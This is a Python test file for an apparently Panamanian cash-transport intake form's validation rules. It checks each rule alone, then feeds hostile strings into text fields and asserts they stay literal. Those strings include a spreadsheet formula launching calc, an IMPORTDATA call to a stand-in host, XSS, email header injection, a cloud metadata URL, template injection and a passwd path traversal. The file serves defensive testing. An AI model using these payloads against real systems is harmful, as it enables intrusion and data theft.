"""Each rule of the form, broken alone; hostile texts; and that no text at all breaks the judging."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from expediente.intake_rules import assess
from expediente.model import Rank
from tests.unit.intake_samples import TODAY, changed, codes, form, judged, the_process, written

Changes = dict[str, str | list[str]]
P, S = "points[1]", "shareholders"

BROKEN: list[tuple[str, Changes]] = [
    ("consentimiento_falta", {"consent": ""}),
    ("identidad_vacia", {"consent": "no sé"}),
    ("identidad_vacia", {"client.legal_name": " \u200b "}),
    ("identidad_demasiado_larga", {"client.legal_name": "a" * 401}),
    ("razon_social_peligrosa_para_hoja", {"client.legal_name": "+1+cmd|' /C calc'!A0"}),
    ("ruc_invalido", {"client.ruc": "1559900012024"}),
    ("dv_no_corresponde", {"client.dv": "87"}),
    ("dv_no_corresponde", {"client.dv": "xx"}),
    ("dv_no_corresponde", {"client.ruc": "155990001-2-2024 DV 87"}),
    ("representante_sin_nombre", {"representative.name": ""}),
    ("cedula_provincia_invalida", {"representative.id_number": "14-123-456"}),
    ("documento_invalido", {"representative.id_number": "8-123-456a"}),
    ("requerido_vacio", {"client.activity": ""}),
    ("requerido_vacio", {f"{P}.schedule.days": ""}),
    ("texto_demasiado_largo", {f"{P}.remarks": "a" * 1001}),
    ("opcion_desconocida", {"client.address.province": "Atlántida"}),
    ("aviso_operacion_vacio", {"client.business_notice": ""}),
    ("aviso_no_corresponde_al_ruc", {"client.business_notice": "155990099-2-2015-1"}),
    ("correo_invalido", {"client.email": "a@example.com, b@example.com"}),
    ("correo_contacto_invalido", {"client.contact.email": "x@localhost"}),
    ("correo_contacto_invalido", {f"{P}.contact.email": "x@localhost"}),
    ("telefono_invalido", {"client.phone": "6000-01"}),
    ("telefono_dudoso", {"client.phone": "7123-4567"}),
    ("telefono_contacto_invalido", {f"{P}.contact.phone": "7123-4567"}),
    ("distrito_no_pertenece_a_provincia", {f"{P}.address.district": "La Chorrera"}),
    ("accionistas_suman_mas_de_100", {f"{S}[1].share": "60.01"}),
    ("accionistas_suman_menos_de_100", {f"{S}[1].share": "59.99"}),
    ("accionistas_doc_repetido", {f"{S}[2].person.id_number": "08-9901-01234"}),
    ("accionista_documento_invalido", {f"{S}[2].person.id_number": "14-1-1"}),
    ("accionista_intermedio_desconocido", {f"{S}[2].through": "Nadie, S.A."}),
    ("porcentaje_invalido", {f"{S}[2].share": "cuarenta"}),
    ("servicio_desconocido", {"order.services": ["Recolección de valores", "Mudanza"]}),
    ("tipo_de_valor_desconocido", {f"{P}.value_kinds": ["Oro"]}),
    ("cambio_sin_monto", {"order.services": ["Recolección de valores", "Entrega de cambio (sencillo)"]}),
    ("procesamiento_sin_banco", {"order.services": ["Recolección de valores", "Procesamiento de dinero"]}),
    ("servicio_especial_sin_descripcion", {"order.services": ["Transporte especial"]}),
    ("inicio_en_el_pasado", {"order.desired_start": "2026-03-01"}),
    ("fecha_invalida", {"order.desired_start": "2026-02-29"}),
    ("hora_invalida", {f"{P}.schedule.window_to": "25:00"}),
    ("ventana_invertida", {f"{P}.schedule.window_to": "09:00"}),
    ("dia_desconocido", {f"{P}.schedule.days": ["Lunes", "XX"]}),
    ("dia_repetido", {f"{P}.schedule.days": ["Lunes", "LU"]}),
    ("monto_invalido", {f"{P}.mean_value": "1.800,00"}),
    ("monto_negativo", {f"{P}.mean_value": "-5.00"}),
    ("insumo_invalido", {f"{P}.supplies.precintos": "muchos"}),
    ("insumo_negativo", {f"{P}.supplies.precintos": "-1"}),
    ("asegurado_menor_que_promedio", {f"{P}.insured_value": "1,000.00"}),
    ("caracter_de_control", {"client.trade_name": "Tienda\0"}),
]


@pytest.mark.parametrize(("code", "changes"), BROKEN, ids=[f"{code}-{next(iter(changes))}" for code, changes in BROKEN])
def test_a_fault_is_told_alone_with_its_field_and_texts(code: str, changes: Changes) -> None:
    """One fault, one problem, the rank of the table, and an intake unless the rank refuses."""
    found = judged("C01", changes)
    assert code in codes(found)
    assert set(codes(found)) - {code} <= ({"accionistas_suman_menos_de_100"} if "accionista" in code else set())
    problem = next(problem for problem in found.problems if problem.code == code)
    assert problem.field in changes or form().rules[code].field == problem.field
    assert problem.question and "{" not in problem.expected and problem.rank is form().rules[code].rank
    assert found.refused == any(problem.rank is Rank.REFUSE for problem in found.problems)


def test_every_rule_of_the_table_is_tried() -> None:
    """The list above leaves out only what other tests try."""
    elsewhere = {"accionistas_en_circulo", "cuenta_terminacion_invalida", "pep_sin_persona"}
    assert {code for code, _ in BROKEN} | elsewhere == set(form().rules)


def test_a_full_account_number_is_refused_and_not_kept() -> None:
    """Only four digits enter the intake."""
    found = judged("C02", {"order.processing_account_ending": "04-12-98-123456-0042"})
    assert codes(found) == ["cuenta_terminacion_invalida"]
    assert found.intake is not None and found.intake.order.processing_account_ending == ""


def test_companies_that_own_each_other_are_told() -> None:
    """A chain that never ends at the client."""
    found = judged("C13", {f"{S}[1].through": "Grupo Andamio Irreal"})
    assert "accionistas_en_circulo" in codes(found)


def test_shares_within_a_company_must_not_be_more_than_the_whole() -> None:
    """The sum of a company shareholder's own holders."""
    found = judged("C13", {f"{S}[2].share": "90.00"})
    assert codes(found) == ["accionistas_suman_mas_de_100"]
    assert "Grupo Andamio Irreal, S.A. suman 110 %" in found.problems[0].expected


def test_same_person_directly_and_through_a_company_is_no_repetition() -> None:
    """Both parts are hers."""
    assert codes(judged("C13", {f"{S}[2].person.id_number": "4-9915-11"})) == []


def test_an_exposed_relative_marks_the_representative() -> None:
    """A name that is nobody's in the form must not lose the wider diligence."""
    found = judged("C18", {"peps[1].name": "Un Familiar Inventado"})
    assert codes(found) == ["pep_sin_persona"]
    assert found.intake is not None and found.intake.representative.politically_exposed


def test_company_with_nt_without_notice_and_shareholders_is_complete() -> None:
    """A State body has neither."""
    changes: Changes = {
        "client.kind": "juridica_nt",
        "client.ruc": "8-NT-1-419",
        "client.dv": "68",
        "client.business_notice": "",
        "client.has_shareholders": "No tiene accionistas",
    }
    found = judged("C01", changes)
    assert codes(found) == [] and found.intake is not None and found.intake.shareholders == ()


def test_check_digits_behind_the_ruc_serve_for_the_blank_question() -> None:
    """Nobody is asked twice for the same."""
    assert codes(judged("C01", {"client.ruc": "155990001-2-2024 DV 78", "client.dv": ""})) == []


def test_a_number_of_another_kind_of_person_is_no_ruc() -> None:
    """The kind decides what a RUC looks like."""
    found = judged("C01", {"client.kind": "Persona natural"})
    assert codes(found) == ["ruc_invalido"] and found.problems[0].field == "client.ruc"


def test_start_on_the_day_of_submission_is_not_past() -> None:
    """The day itself is good."""
    assert codes(judged("C01", {}, date(2026, 3, 16))) == []
    assert codes(judged("C01", {}, date(2026, 3, 17))) == ["inicio_en_el_pasado"]


def test_pending_faults_leave_a_usable_intake() -> None:
    """What could not be read is empty, never wrong; nothing undeliverable stays an address."""
    changes: Changes = {
        "client.email": "a@@b",
        "client.phone": "6000-01",
        f"{P}.mean_value": "-5",
        f"{P}.schedule.days": ["Lunes", "Lunes, XX"],
        f"{P}.schedule.window_from": "99:99",
        "order.desired_start": "nunca",
        f"{P}.supplies.precintos": "-1",
    }
    intake = judged("C01", changes).intake
    assert intake is not None and intake.client.email == "" and intake.client.phone == "6000-01"
    point = intake.points[0]
    assert (point.mean_value, point.schedule.days, point.schedule.window_from) == (Decimal(0), ("LU",), "")
    assert intake.order.desired_start is None and "precintos" not in point.supplies


def test_answers_of_pages_that_were_not_seen_do_not_count() -> None:
    """A natural person who first chose company leaves no shareholders behind."""
    changes: Changes = {
        "client.kind": "Persona natural",
        "client.ruc": "6-9914-14",
        "client.dv": "32",
        "client.business_notice": "6-9914-14-1",
    }
    found = judged("C01", changes)
    assert codes(found) == [] and found.intake is not None
    assert found.intake.shareholders == () and found.intake.client.registry_folio == ""
    assert "shareholders[1].person.name" in found.answers


def test_no_answers_at_all_are_refused() -> None:
    """An empty response makes nothing and raises nothing."""
    found = assess(form(), the_process(), {}, TODAY)
    assert found.refused and {"consentimiento_falta", "identidad_vacia", "representante_sin_nombre"} <= set(codes(found))


def test_unknown_questions_are_ignored() -> None:
    """A question that somebody added by hand harms nothing."""
    answers = written("C01") | {"deadbeef": ["x"], "client.unknown": ["y"]}
    assert assess(form(), the_process(), answers, TODAY) == judged("C01")


TEXT_FIELDS = [
    "client.trade_name",
    "client.activity",
    "client.address.line",
    "order.needs",
    f"{P}.name",
    f"{P}.contact.name",
    f"{P}.remarks",
    f"{P}.access_notes",
]
HOSTILE = [
    '=IMPORTDATA("http://malo.example.com")',
    "＝1",
    "a\r\nBcc: otro@example.com",
    "a\u0085b\u2028c",
    "=?utf-8?q?x?=",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<!-- -->&amp;{color:red}",
    "javascript:alert(1)",
    "http://169.254.169.254/latest/meta-data",
    "' or name contains '",
    "\\",
    "{{7*7}}{% include 'x' %}{{config}}",
    "Z" + "\u0301" * 1000,
    "\u202eexe.fdp",
    "😀" * 50,
    "../../etc/passwd",
    "\ud83d",
    "\0",
]


@pytest.mark.parametrize("field", TEXT_FIELDS)
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_a_literal(field: str, text: str) -> None:
    """The dossier opens; what is kept has one line or plain lines, and can be encoded."""
    found = judged("C01", {field: f"x {text}"})
    assert found.intake is not None
    kept = repr(found.intake)
    kept.encode()
    assert "\\x00" not in kept and "\\r" not in kept and "\\u202e" not in kept
    assert {problem.rank for problem in found.problems} <= {Rank.NOTICE}


@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_fifty_thousand_characters_are_told_and_cut(field: str) -> None:
    """The intake stays small; the whole text stays among the answers; the mail shows its beginning."""
    found = judged("C01", {field: "a" * 50_000})
    assert codes(found) == ["texto_demasiado_largo"]
    assert len(found.problems[0].written) <= 200 and len(found.answers[field][0]) == 50_000
    assert found.intake is not None and len(repr(found.intake)) < 10_000


ANY = st.text(st.characters(exclude_categories=[]), max_size=40)


@settings(max_examples=150, deadline=None)
@given(
    st.dictionaries(st.sampled_from(sorted(form().questions)), st.lists(ANY, max_size=3), max_size=25),
    st.sampled_from(["C01", "C02", "C13", "C14"]),
)
def test_no_text_breaks_the_judging(answers: dict[str, list[str]], case_id: str) -> None:
    """Whatever stands in whatever question: problems or an intake, never an exception; the same again gives the same."""
    given_answers = changed(case_id, dict(answers))
    found = assess(form(), the_process(), given_answers, TODAY)
    assert found.refused == any(problem.rank is Rank.REFUSE for problem in found.problems)
    assert found == assess(form(), the_process(), given_answers, TODAY)
    for problem in found.problems:
        f"{problem.written}{problem.expected}".encode()
        assert "\n" not in problem.written
